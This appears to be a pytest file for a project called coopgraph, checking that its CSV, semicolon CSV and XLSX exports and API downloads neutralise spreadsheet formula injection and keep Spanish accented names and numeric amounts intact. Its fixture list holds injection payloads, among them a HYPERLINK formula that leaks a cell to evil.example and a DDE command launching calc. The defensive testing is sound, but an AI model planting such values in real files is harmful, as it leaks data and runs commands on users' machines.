"""Every spreadsheet coopgraph writes — each CLI export and each API download — goes through one writer
(coopgraph/spreadsheets.py): after a file with hostile and accented names is loaded, no export holds a
live formula, names come through intact, CSV files start with a BOM, the `;` variants open in
LibreOffice set to Spanish as numbers, and XLSX money is numeric."""
from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from fastapi.testclient import TestClient

from coopgraph.api.app import create_app
from coopgraph.cells import TRIGGERS, unescape
from coopgraph.settings import Settings

from conftest import run_cli

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', "+CMD|' /C calc'!A0", "@SUM(1+1)",
           "FUNDACIÓN ÑANDÚ DEL AÑO"]
AMOUNT = "1.234.567,89"  # each hostile cooperant's contribution, in the file's Colombian writing


@pytest.fixture(scope="module")
def hostile_home(tmp_path_factory) -> Path:
    home = tmp_path_factory.mktemp("hostile-home")
    source = home / "globo-hostil.csv"
    pd.DataFrame({"id_interaccion": [f"H-{i}" for i in range(len(HOSTILE))], "año": ["2024"] * len(HOSTILE),
                  "entidad_distrital": ["SECRETARÍA DISTRITAL DE MOVILIDAD"] * len(HOSTILE), "cooperante": HOSTILE,
                  "monetario": ["Sí"] * len(HOSTILE), "aporte_cooperante": [AMOUNT] * len(HOSTILE),
                  "moneda": ["COP"] * len(HOSTILE),
                  "descripcion": [f"Acción {name}" for name in HOSTILE]}).to_csv(source, index=False)
    loaded = run_cli(["load", str(source)], home)
    assert loaded.returncode == 0, loaded.stderr
    return home


@pytest.fixture(scope="module")
def hostile_ids(hostile_home) -> dict[str, str]:
    found = run_cli(["search", "ÑANDÚ", "--json"], hostile_home)
    assert found.returncode == 0, found.stderr
    hits = json.loads(found.stdout)
    return {"ñandú": next(h["id"] for h in hits if "ÑANDÚ" in h["name"])}


def _cells_of_csv(body: bytes, semicolon: bool = False) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";" if semicolon else ",") for cell in row]


def _assert_safe_csv(name: str, body: bytes, *, semicolon: bool = False, bom: bool = True, names: bool = True,
                     hostile: bool = True):
    if bom:
        assert body.startswith(b"\xef\xbb\xbf"), f"{name}: no BOM, Excel would misread the accents"
    cells = _cells_of_csv(body, semicolon)
    live = [c for c in cells if c[:1] in TRIGGERS and not c.lstrip("-").replace(",", "").replace(".", "").isdigit()]
    assert live == [], f"{name}: cells a spreadsheet would evaluate: {live[:3]}"
    if names:
        shown = {unescape(c) for c in cells}
        text = " ".join(shown)
        assert "FUNDACIÓN ÑANDÚ DEL AÑO" in text, f"{name}: the accented name did not come through"
        assert not hostile or any(h in text for h in HOSTILE[:3]), f"{name}: the hostile names did not come through intact"


def _assert_safe_xlsx(name: str, body: bytes, *, money: str | None = None):
    book = openpyxl.load_workbook(io.BytesIO(body))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], f"{name}: a live formula"
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value[:1] in TRIGGERS], name
    values = " ".join(str(c.value) for c in cells if c.value is not None)
    assert "FUNDACIÓN ÑANDÚ DEL AÑO" in values, name
    if money:
        sheet = book.worksheets[0]
        header = [c.value for c in sheet[1]]
        column = header.index(money)
        amounts = [row[column] for row in sheet.iter_rows(min_row=2, values_only=True) if row[column] is not None]
        assert amounts and all(isinstance(v, (int, float)) for v in amounts), f"{name}: money stored as text"
        assert any(abs(v - 1234567.89) < 0.005 for v in amounts), name


def _libreoffice_in_spanish(path: Path, tmp_path: Path) -> list[list]:
    """The rows LibreOffice Calc reads from a ';' CSV with Spanish (Colombia) settings."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice (Debian's libreoffice-calc-nogui, installed by .ci/run) opens the ';' CSVs"
    out = tmp_path / "lo-out"
    # CSV filter options: separator 59 (;), quote 34 ("), UTF-8 (76), from line 1, default formats, es-CO (9226)
    converted = subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                                "--infilter=CSV:59,34,76,1,,9226", "--convert-to", "xlsx", "--outdir", str(out),
                                str(path)], capture_output=True, text=True, timeout=180)
    assert converted.returncode == 0, converted.stderr
    sheet = openpyxl.load_workbook(out / (path.stem + ".xlsx")).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


# -- the CLI's exports ------------------------------------------------------------------------
def test_interactions_export_csv_semicolon_and_xlsx(hostile_home, tmp_path):
    plain, spanish, book = tmp_path / "i.csv", tmp_path / "i-es.csv", tmp_path / "i.xlsx"
    for args in (["-o", str(plain)], ["-o", str(spanish), "--semicolon"], ["-o", str(book)]):
        done = run_cli(["export", "interactions", *args], hostile_home)
        assert done.returncode == 0, done.stderr
    _assert_safe_csv("interactions.csv", plain.read_bytes())
    _assert_safe_csv("interactions;csv", spanish.read_bytes(), semicolon=True)
    _assert_safe_xlsx("interactions.xlsx", book.read_bytes(), money="aporte_cooperante")
    rows = _libreoffice_in_spanish(spanish, tmp_path)
    header = rows[0]
    assert header[1] == "año"  # the BOM and UTF-8 read right: no "aÃ±o"
    money = header.index("aporte_cooperante")
    hostile = [r for r in rows[1:] if str(r[0]).startswith("H-")]
    assert len(hostile) == len(HOSTILE) and all(r[money] == pytest.approx(1234567.89) for r in hostile)
    assert all(isinstance(r[money], (int, float)) for r in rows[1:] if r[money] is not None)
    # and the file people fix in a spreadsheet loads back as it was: nothing changes
    again = run_cli(["load", str(spanish)], hostile_home)
    assert again.returncode == 0 and "0 new, 0 updated" in again.stderr.replace("\n", " "), again.stderr


def test_facts_export_csv_and_xlsx(hostile_home, tmp_path):
    plain, book = tmp_path / "facts.csv", tmp_path / "facts.xlsx"
    for out in (plain, book):
        done = run_cli(["export", "facts", "-o", str(out)], hostile_home)
        assert done.returncode == 0, done.stderr
    _assert_safe_csv("facts.csv", plain.read_bytes())
    _assert_safe_xlsx("facts.xlsx", book.read_bytes())


def test_graph_export_csv_is_safe_and_opens_as_numbers(hostile_home, tmp_path):
    plain, spanish = tmp_path / "g.csv", tmp_path / "g-es.csv"
    for args in (["-o", str(plain)], ["-o", str(spanish), "--semicolon"]):
        done = run_cli(["export", "graph", *args], hostile_home)
        assert done.returncode == 0, done.stderr
    _assert_safe_csv("graph.csv", plain.read_bytes())
    _assert_safe_csv("graph;csv", spanish.read_bytes(), semicolon=True)
    rows = _libreoffice_in_spanish(spanish, tmp_path)
    pesos = rows[0].index("amount_cop")
    assert all(isinstance(r[pesos], (int, float)) for r in rows[1:])


def test_profile_files_csv_semicolon_and_xlsx(hostile_home, hostile_ids, tmp_path):
    kind_id = hostile_ids["ñandú"]
    plain, spanish, book = tmp_path / "p.csv", tmp_path / "p-es.csv", tmp_path / "p.xlsx"
    for args in (["--out", str(plain)], ["--out", str(spanish), "--semicolon"], ["--out", str(book)]):
        done = run_cli(["profile", "cooperant", kind_id, *args], hostile_home)
        assert done.returncode == 0, done.stderr
    _assert_safe_csv("profile.csv", plain.read_bytes(), hostile=False)  # one cooperant's ficha: its own name
    _assert_safe_csv("profile;csv", spanish.read_bytes(), semicolon=True, hostile=False)
    _assert_safe_xlsx("profile.xlsx", book.read_bytes())
    headline = openpyxl.load_workbook(book).worksheets[0]
    numbers = [row[1] for row in headline.iter_rows(min_row=2, values_only=True) if row[1] is not None]
    assert numbers and all(isinstance(v, (int, float)) for v in numbers)
    assert pytest.approx(1234567.89) in numbers  # the headline money, as a number


def test_query_csv_and_rejects(hostile_home, tmp_path):
    done = run_cli(["query", "top_cooperants_by_amount", "-p", "limit=400", "-f", "csv"], hostile_home)
    assert done.returncode == 0, done.stderr
    _assert_safe_csv("query csv", done.stdout.encode("utf-8"), bom=False)  # a pipe, not a file: no BOM
    bad = tmp_path / "bad.csv"
    pd.DataFrame({"id_interaccion": ["R-1"], "año": ["dos mil"], "entidad_distrital": ["SDM"],
                  "cooperante": [HOSTILE[0]], "descripcion": ["FUNDACIÓN ÑANDÚ DEL AÑO"]}).to_csv(bad, index=False)
    rejects = tmp_path / "rejects.csv"
    run_cli(["load", str(bad), "--rejects", str(rejects)], hostile_home)
    _assert_safe_csv("rejects.csv", rejects.read_bytes())


# -- the API's downloads ------------------------------------------------------------------------
def test_api_downloads(hostile_home, hostile_ids):
    with TestClient(create_app(Settings(home=hostile_home))) as client:
        for sep in ("comma", "semicolon"):
            body = client.get(f"/api/v1/exports/graph.csv?sep={sep}").content
            _assert_safe_csv(f"graph.csv {sep}", body, semicolon=sep == "semicolon")
            body = client.get(f"/api/v1/profiles/cooperant/{hostile_ids['ñandú']}?format=csv&sep={sep}").content
            _assert_safe_csv(f"profile csv {sep}", body, semicolon=sep == "semicolon", hostile=False)
        book = client.get(f"/api/v1/profiles/cooperant/{hostile_ids['ñandú']}?format=xlsx")
        assert book.status_code == 200
        _assert_safe_xlsx("profile xlsx", book.content)
